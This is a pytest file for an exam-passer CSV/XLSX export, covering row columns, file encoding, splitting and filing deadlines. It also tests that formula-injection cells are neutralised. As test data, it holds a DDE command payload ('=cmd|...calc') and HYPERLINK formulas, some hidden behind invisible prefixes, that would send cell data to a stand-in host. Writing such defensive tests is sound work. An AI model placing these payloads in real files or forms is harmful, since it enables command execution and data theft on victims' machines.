"""The export's pure rules: rows, neutralisation, files, deadline."""

from __future__ import annotations

import csv
import datetime as dt
import subprocess
import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from chalicelib.clock import BEIJING
from chalicelib.domain import export as rules
from chalicelib.domain.calendar import WorkCalendar
from chalicelib.domain.periods import Period
from tests.support.export_data import id_number, id_number_ending_in_x

PERIOD = Period(
    id="20261218-abc",
    name="2026年12月考试",
    exam_date=dt.date(2026, 12, 18),
    exam_start=dt.time(9),
    exam_end=dt.time(11),
    registration_opens=dt.date(2026, 11, 20),
    registration_closes=dt.date(2026, 12, 17),
)


def passer(**changes: object) -> rules.Passer:
    values: dict[str, object] = {
        "name": "张三",
        "id_number": id_number(1),
        "phone": "13900000001",
        "email": "zhang@example.com",
        "score": 86,
        "submitted_at": dt.datetime(2026, 12, 18, 9, 41, 7, tzinfo=BEIJING),
    }
    values.update(changes)
    return rules.Passer(**values)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+8613900000000", "'+8613900000000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张=三", "张=三"),
        ("a-b@example.com", "a-b@example.com"),
        (" =1", "' =1"),
        ("\x01=HYPERLINK(C2)", "'=HYPERLINK(C2)"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠A1", "'＠A1"),
        ("\u200b=1", "'\u200b=1"),
        ("\u200f\u202e@x", "'\u200f\u202e@x"),
        ("\ufeff+1", "'\ufeff+1"),
        ("\u3000=1", "'\u3000=1"),
        ("\n=1", "'\n=1"),
        ("\x0b\x1f-1", "'-1"),
        ("张\x00三", "张三"),
        ("第一行\n第二行", "第一行\n第二行"),
        ("", ""),
    ],
)
def test_cells_that_start_a_formula_are_neutralised(text: str, expected: str) -> None:
    assert rules.neutralise(text) == expected


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_keeps_its_content(text: str) -> None:
    result = rules.neutralise(text)
    cleaned = rules.clean_cell(text)
    assert result in (cleaned, "'" + cleaned)
    assert not any(unicodedata.category(ch) == "Cc" and ch not in "\t\n\r" for ch in result)
    visible = [ch for ch in result if not (ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf"))]
    assert result.startswith("'") or not visible or visible[0] not in "=+-@＝＋－＠"


def test_row_has_the_contract_columns_in_order() -> None:
    submitted_utc = dt.datetime(2026, 12, 18, 1, 41, 7, tzinfo=dt.UTC)
    row = rules.row(PERIOD, passer(submitted_at=submitted_utc))
    assert rules.COLUMNS == ("期次", "姓名", "身份证号", "手机号", "邮箱", "成绩", "考试日期", "提交时间")
    assert row == (
        "2026年12月考试",
        "张三",
        id_number(1),
        "13900000001",
        "zhang@example.com",
        86,
        "2026-12-18",
        "2026-12-18 09:41:07",  # Beijing time, whatever zone the instant came in
    )


def test_row_neutralises_every_text_cell() -> None:
    period = Period(**{**PERIOD.__dict__, "name": "=期次"})
    row = rules.row(period, passer(name="=cmd|' /C calc'!A0", email="-x@example.com"))
    assert row[0] == "'=期次"
    assert row[1] == "'=cmd|' /C calc'!A0"
    assert row[4] == "'-x@example.com"


def test_exam_has_ended_only_after_the_grace_and_the_settling_time() -> None:
    end = PERIOD.exam_ends_at(BEIJING)
    last_moment = end + dt.timedelta(minutes=10) + rules.EXPORT_SETTLE
    assert not rules.exam_has_ended(PERIOD, end)
    assert not rules.exam_has_ended(PERIOD, last_moment)
    assert rules.exam_has_ended(PERIOD, last_moment + dt.timedelta(seconds=1))


def test_deadline_is_the_fifth_working_day_after_the_exam() -> None:
    calendar = WorkCalendar()
    assert rules.deadline(calendar, PERIOD) == dt.date(2026, 12, 25)  # Fri 18 -> Mon 21 .. Fri 25
    assert not rules.warning_due(calendar, PERIOD, dt.date(2026, 12, 23))
    assert rules.warning_due(calendar, PERIOD, dt.date(2026, 12, 24))


def test_deadline_skips_the_national_day_holiday() -> None:
    period = Period(**{**PERIOD.__dict__, "exam_date": dt.date(2026, 9, 29)})
    calendar = WorkCalendar()
    deadline = rules.deadline(calendar, period)
    assert deadline > dt.date(2026, 10, 7)
    assert calendar.working_days_between(period.exam_date, deadline) == 5


def test_deadline_follows_the_stage_overrides_for_a_year_the_library_lacks() -> None:
    calendar = WorkCalendar.from_overrides('{"2031": {"holidays": ["2031-01-02"], "workdays": []}}')
    period = Period(**{**PERIOD.__dict__, "exam_date": dt.date(2030, 12, 31)})
    # Wed 1 Jan .. : 2 is a holiday, 4-5 a weekend.
    assert rules.deadline(calendar, period) == dt.date(2031, 1, 8)


def test_display_width_counts_chinese_twice() -> None:
    assert rules.display_width("abc") == 3
    assert rules.display_width("张三") == 4


def test_files_hold_the_same_rows_csv_with_bom_and_xlsx_with_text_ids(tmp_path) -> None:
    _, x_number = id_number_ending_in_x()
    people = [
        passer(),
        passer(name="=1+2", id_number=x_number, phone="13900000002", email="+x@example.com", score=60),
        passer(name="欧阳娜娜娜娜娜娜娜娜娜娜", email="a.really.long.address.for.width@example.com"),
    ]
    with rules.ExportFiles(PERIOD, tmp_path, "passers") as files:
        for person in people:
            files.add(person)
        files.finish()
    assert files.count == 3

    raw = files.csv_path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with files.csv_path.open(encoding="utf-8-sig", newline="") as stream:
        csv_rows = list(csv.reader(stream))
    assert csv_rows[0] == list(rules.COLUMNS)
    expected = [[str(cell) for cell in rules.row(PERIOD, person)] for person in people]
    assert csv_rows[1:] == expected
    assert csv_rows[2][1] == "'=1+2" and csv_rows[2][2] == x_number

    sheet = load_workbook(files.xlsx_path).worksheets[0]
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == list(rules.COLUMNS)
    assert all(cell.font.b for cell in rows[0])
    assert sheet.freeze_panes == "A2"
    for row, person in zip(rows[1:], people, strict=True):
        assert [cell.value for cell in row] == list(rules.row(PERIOD, person))
        id_cell, phone_cell, score_cell = row[2], row[3], row[5]
        assert id_cell.data_type == "s" and id_cell.number_format == "@"
        assert phone_cell.data_type == "s" and phone_cell.number_format == "@"
        assert score_cell.data_type == "n"
        assert all(cell.data_type != "f" for cell in row)
    assert rows[2][2].value.endswith("X")
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFGH"}
    assert widths["C"] >= 18 and widths["E"] >= len("a.really.long.address.for.width@example.com")
    assert widths["B"] >= rules.display_width("欧阳娜娜娜娜娜娜娜娜娜娜")


def test_xlsx_drops_characters_xml_cannot_hold(tmp_path) -> None:
    with rules.ExportFiles(PERIOD, tmp_path, "passers") as files:
        files.add(passer(name="张\x01三"))
        files.finish()
    sheet = load_workbook(files.xlsx_path).worksheets[0]
    assert sheet["B2"].value == "张三"


def test_empty_export_has_only_the_header(tmp_path) -> None:
    with rules.ExportFiles(PERIOD, tmp_path, "passers") as files:
        files.finish()
    assert files.count == 0
    assert files.csv_path.read_bytes() == "\ufeff".encode() + ",".join(rules.COLUMNS).encode() + b"\r\n"


@pytest.mark.parametrize(
    ("count", "parts", "sizes"), [(7, 3, [3, 3, 1]), (6, 2, [3, 3]), (2, 5, [1, 1]), (1, 2, [1])]
)
def test_split_keeps_every_row_in_order_over_parts_of_their_own(tmp_path, count, parts, sizes) -> None:
    people = [passer(name=f"考生{n}", id_number=id_number(n), phone=f"139{n:08d}") for n in range(count)]
    with rules.ExportFiles(PERIOD, tmp_path, "passers") as files:
        for person in people:
            files.add(person)
        files.finish()

    pieces = files.split(parts)

    assert [piece.last - piece.first + 1 for piece in pieces] == sizes
    assert [piece.number for piece in pieces] == list(range(1, len(sizes) + 1))
    assert {piece.of for piece in pieces} == {len(sizes)}
    csv_rows: list[list[str]] = []
    xlsx_rows: list[list[object]] = []
    for piece in pieces:
        assert piece.csv_path.read_bytes().startswith(b"\xef\xbb\xbf")
        with piece.csv_path.open(encoding="utf-8-sig", newline="") as stream:
            header, *rows = list(csv.reader(stream))
        assert header == list(rules.COLUMNS) and len(rows) == piece.last - piece.first + 1
        csv_rows += rows
        header_cells, *cells = list(load_workbook(piece.xlsx_path).worksheets[0].iter_rows())
        assert [cell.value for cell in header_cells] == list(rules.COLUMNS)
        assert all(row[2].data_type == "s" and row[2].number_format == "@" for row in cells)
        xlsx_rows += [[cell.value for cell in row] for row in cells]
    assert csv_rows == [[str(cell) for cell in rules.row(PERIOD, person)] for person in people]
    assert xlsx_rows == [list(rules.row(PERIOD, person)) for person in people]
    # The whole files stay as they were, beside the parts.
    with files.csv_path.open(encoding="utf-8-sig", newline="") as stream:
        assert len(list(csv.reader(stream))) == count + 1


@pytest.mark.parametrize(
    ("size", "limit", "parts"),
    [
        (23_000_000, 10_485_760, 3),
        (10_485_761, 10_485_760, 2),
        (9_437_185, 10_485_760, 2),
        (47_185_921, 10_485_760, 6),
    ],
)
def test_parts_for_keeps_a_tenth_of_the_limit_spare(size: int, limit: int, parts: int) -> None:
    assert rules.parts_for(size, limit) == parts
    assert size / parts <= limit * 0.9


def test_domain_modules_import_no_aws_and_load_openpyxl_lazily() -> None:
    code = (
        "import sys, chalicelib.domain.export, chalicelib.domain.mails;"
        "bad = [m for m in ('boto3', 'botocore', 'pynamodb', 'chalice', 'openpyxl') if m in sys.modules];"
        "print(','.join(bad))"
    )
    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert found.stdout.strip() == ""


# Everything a formula can hide behind, and every operator a spreadsheet runs.
HIDING_PREFIXES = (
    *("", " ", "\u3000", "\t", "\r", "\n"),
    *("\x01", "\x0b", "\x1f", "\x7f"),
    *("\u200b", "\u200f", "\u202e", "\ufeff", " \x01\u200b"),
)
OPERATORS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("operator", OPERATORS)
@pytest.mark.parametrize("prefix", HIDING_PREFIXES, ids=repr)
def test_xlsx_holds_no_formula_behind_any_prefix(tmp_path, prefix: str, operator: str) -> None:
    hostile = f'{prefix}{operator}HYPERLINK("http://x.example/?"&C2,"点击")'
    period = Period(**{**PERIOD.__dict__, "name": hostile})
    with rules.ExportFiles(period, tmp_path, "passers") as files:
        files.add(passer(name=hostile, email=f"{prefix}{operator}x@example.com"))
        files.finish()
    sheet = load_workbook(files.xlsx_path).worksheets[0]
    cells = next(iter(sheet.iter_rows(min_row=2)))
    assert all(cell.data_type != "f" for cell in cells)
    for index in (0, 1, 4):
        value = cells[index].value
        assert isinstance(value, str) and value.startswith("'"), (index, value)
        assert not any(unicodedata.category(ch) == "Cc" and ch not in "\t\n\r" for ch in value)
    with files.csv_path.open(encoding="utf-8-sig", newline="") as stream:
        csv_row = list(csv.reader(stream))[1]
    assert all(csv_row[index].startswith("'") for index in (0, 1, 4))


def test_the_warning_is_never_due_before_it_is_possible() -> None:
    calendar = WorkCalendar()
    for offset in range(12):
        today = PERIOD.exam_date + dt.timedelta(days=offset)
        if rules.warning_due(calendar, PERIOD, today):
            assert rules.warning_possible(PERIOD, today)
    assert not rules.warning_possible(PERIOD, PERIOD.exam_date + dt.timedelta(days=3))
